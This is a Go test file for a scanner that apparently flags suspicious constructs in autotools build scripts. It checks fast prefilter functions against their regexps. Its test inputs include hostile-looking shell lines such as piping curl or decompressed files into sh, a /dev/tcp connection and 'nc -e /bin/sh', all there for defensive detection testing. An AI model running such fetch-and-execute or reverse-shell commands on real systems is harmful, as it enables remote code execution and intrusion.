package autotools

import (
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// prefilterLines returns lines to compare the prefiltered matchers with
// their regexps on: handwritten edge cases, every line of the package's
// testdata, and random lines built from the tokens the regexps look for.
func prefilterLines(t *testing.T) []string {
	lines := []string{
		"", "tr", "tr ", "tr a b", " tr a", "xtr a", "(tr 'a' 'b')", "tr tr x", "tr\ttr\t", "a|tr  x;tr y",
		`\x41\x42\x43\x44\x45\x46\x47\x48`, `\x41\x42\x43\x44\x45\x46\x47`, `\x\x41\x42\x43\x44\x45\x46\x47\x48`, `\x4\x41\x42\x43\x44\x45\x46\x47\x48z`,
		"eval `echo QUJD | base64 -d`", "openssl enc -aes -d", "xxd -p -r", "uudecode x",
		"curl -s https://x | sh", "v=`wget ftp://a`", "exec 3<>/dev/tcp/1.2.3.4/80", "nc -e /bin/sh h 1",
		`sed "r\n" x`, `sed 'r\n' x`, `sed r\\n x`, `sed "r\\n" x`, "grep -a x $srcdir", "grep -a x .", "GREP -ra x",
		"xz -dc f | sh", "gunzip < f | bash", "cat f | $XZ -d | sh", "lzcat f|sh",
		"head -c 100 f", "tail -c +5 f", "head --bytes=3", "tail\t--bytes 2", "dd if=f skip=1 count=2", "dd bs=1 iseek=4", "ddd count=1",
	}
	files, _ := filepath.Glob("testdata/*/*")
	more, _ := filepath.Glob("testdata/*")
	for _, f := range append(files, more...) {
		if b, err := os.ReadFile(f); err == nil && len(b) < 1<<20 {
			lines = append(lines, strings.Split(string(b), "\n")...)
		}
	}
	tokens := []string{"tr", " ", "\t", "|", ";", "&", "(", "\"", "'", "`", "$(", "eval", "xz", "-d", "-dc", "gzip", "zcat", "base64",
		"--decode", "openssl", "enc", "xxd", "-r", "uudecode", `\x`, "41", "4", "curl", "wget", "fetch", "${CURL}", "https://", "ftp://",
		"/dev/tcp/", "nc", "-e", "sed", `r\n`, `r\\n`, `"`, "grep", "-a", "-r", "$srcdir", " .", "x=", "a", "then ",
		"head", "tail", "dd", "-c", "+", "1", "--bytes", "skip=", "count=", "ibs=", "bs=", "iseek=", "-"}
	r := rand.New(rand.NewPCG(1, 2))
	for range 20000 {
		var b strings.Builder
		for range r.IntN(12) {
			b.WriteString(tokens[r.IntN(len(tokens))])
		}
		lines = append(lines, b.String())
	}
	return lines
}

// TestPrefiltersExact checks that every literal prefilter and hand-written
// scanner in front of a scan regexp gives the regexp's own answer.
func TestPrefiltersExact(t *testing.T) {
	b64Full := regexp.MustCompile(b64Re().String() + `|(?:\\x[0-9a-fA-F]{2}){8,}`)
	hexRe := regexp.MustCompile(`(?:\\x[0-9a-fA-F]{2}){8,}`)
	for _, l := range prefilterLines(t) {
		if got, want := matchDecoder(l), decoderRe().MatchString(l); got != want {
			t.Errorf("matchDecoder(%q) = %v, regexp %v", l, got, want)
		}
		if got, want := matchDecoding(l), b64Full.MatchString(l); got != want {
			t.Errorf("matchDecoding(%q) = %v, regexp %v", l, got, want)
		}
		if got, want := hexEscapeRun(l, 8), hexRe.MatchString(l); got != want {
			t.Errorf("hexEscapeRun(%q) = %v, regexp %v", l, got, want)
		}
		if got, want := matchNetwork(l), netRe().MatchString(l); got != want {
			t.Errorf("matchNetwork(%q) = %v, regexp %v", l, got, want)
		}
		if got, want := matchSedCat(l), sedCatRe().MatchString(l); got != want {
			t.Errorf("matchSedCat(%q) = %v, regexp %v", l, got, want)
		}
		var want []int
		for _, loc := range trRe().FindAllStringIndex(l, -1) {
			want = append(want, loc[1])
		}
		if got := trCallEnds(l); !slices.Equal(got, want) {
			t.Errorf("trCallEnds(%q) = %v, regexp %v", l, got, want)
		}
		if !mayCarve(l) && carveRe().MatchString(l) {
			t.Errorf("carveRe matches %q, mayCarve says it cannot", l)
		}
		if containsAny(l, srcTreeLiterals) != srcTreeRe().MatchString(l) && srcTreeRe().MatchString(l) {
			t.Errorf("srcTreeRe matches %q without a literal of srcTreeLiterals", l)
		}
	}
}

// TestContainsCopyrightExact checks containsCopyright against the regexp
// it replaces, on mixed-case, truncated and non-ASCII variants.
func TestContainsCopyrightExact(t *testing.T) {
	re := regexp.MustCompile(`(?i)copyright`)
	r := rand.New(rand.NewPCG(3, 4))
	cases := []string{"", "copyright", "COPYRIGHT", "Copyright (C) 2020", "copyrigh", "xcopyrightx", "copyrıght", "ÇOPYRIGHT", "@OPYRIGHT", "cOPYRIGHt"}
	for range 5000 {
		b := []byte("dnl Copyright 2021")
		for i := range b {
			switch r.IntN(4) {
			case 0:
				b[i] ^= 0x20
			case 1:
				b[i] = byte(r.IntN(256))
			}
		}
		cases = append(cases, string(b[:r.IntN(len(b)+1)]))
	}
	for _, c := range cases {
		if got, want := containsCopyright([]byte(c)), re.MatchString(c); got != want {
			t.Errorf("containsCopyright(%q) = %v, regexp %v", c, got, want)
		}
	}
}

// TestDefunNamesExact checks defunNames against defunRe.
func TestDefunNamesExact(t *testing.T) {
	tokens := []string{"AC_DEFUN", "AC_DEFUN_ONCE", "AU_DEFUN", "AU_ALIAS", "(", "[", "]", " ", "\t", "x", "_", "gl_FOO", "9", "XAC_DEFUN", ")", "AC_DEFUN_ONC"}
	r := rand.New(rand.NewPCG(5, 6))
	cases := []string{"AC_DEFUN([gl_X], [", "AC_DEFUN_ONCE([a])", "AU_ALIAS([OLD], [NEW])", "xAC_DEFUN([a])", "AC_DEFUN(  [[b]])", "AC_DEFUN([AC_DEFUN([c])"}
	for range 20000 {
		var b strings.Builder
		for range r.IntN(10) {
			b.WriteString(tokens[r.IntN(len(tokens))])
		}
		cases = append(cases, b.String())
	}
	for _, c := range cases {
		var want []string
		for _, m := range defunRe().FindAllStringSubmatch(c, -1) {
			want = append(want, m[1])
		}
		var got []string
		for _, n := range defunNames([]byte(c)) {
			got = append(got, string(n))
		}
		if !slices.Equal(got, want) {
			t.Errorf("defunNames(%q) = %q, regexp %q", c, got, want)
		}
	}
}
